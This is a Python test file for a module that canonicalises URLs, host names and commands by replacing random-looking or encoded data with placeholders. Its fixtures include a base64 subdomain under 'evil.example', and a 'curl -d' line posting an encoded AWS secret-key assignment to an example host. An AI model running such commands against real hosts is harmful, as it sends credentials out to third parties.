"""What looks made up goes, what somebody chose stays."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.trace.canonical.madeup import host_name, url_text, without_data

URLS = [
    ("http://a.example/x", "http://a.example/x"),
    ("http://a.example/x?lang=en&page=12", "http://a.example/x?lang=en&page=12"),
    ("http://a.example/x?id=8f3a09bc71de&n=2", "http://a.example/x?id={value}&n=2"),
    ("http://a.example/x?t=Xu_AKptBdluqTusXsS9VyQ", "http://a.example/x?t={value}"),
    ("http://a.example/x?t=XuQAKptBdlUqTuSXsSpVyQ#top", "http://a.example/x?t={value}#top"),
    ("http://a.example/x?q=all+that+there+is+to+say", "http://a.example/x?q=all+that+there+is+to+say"),
    ("http://a.example/x?q=simpleRequestBuilder", "http://a.example/x?q=simpleRequestBuilder"),
    ("http://a.example:8080?x", "http://a.example:8080?x"),
    ("http://aGVsbG8gd29ybGQgMTIz0.evil.example/x", "http://{data}.evil.example/x"),
    ("http://[2001:db8::1]:80/x", "http://[2001:db8::1]:80/x"),
    ("/only/a/path", "/only/a/path"),
    ("", ""),
]


@pytest.mark.parametrize(("url", "expected"), URLS)
def test_a_url(url: str, expected: str) -> None:
    assert url_text(url) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("www.a.example", "www.a.example"),
        ("a.example.", "a.example"),
        ("q1w2e3r4t5y6u7.example", "q1w2e3r4t5y6u7.example"),  # somebody registered it
        ("q1w2e3r4t5y6u7.a.example", "{data}.a.example"),
        ("a" * 40 + ".x.example", "{data}.x.example"),
        ("localhost", "localhost"),
    ],
)
def test_a_host(name: str, expected: str) -> None:
    assert host_name(name) == expected


def test_data_in_a_command() -> None:
    data = "QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPWFiYzEyMw=="
    assert without_data(f"curl -d {data} http://a.example/") == "curl -d {data} http://a.example/"
    assert without_data("--a-long-option-that-nobody-reads-to-the-end x") == (
        "--a-long-option-that-nobody-reads-to-the-end x"
    )


@given(st.text(max_size=300))
def test_a_second_look_changes_nothing(text: str) -> None:
    assert url_text(url_text(text)) == url_text(text)
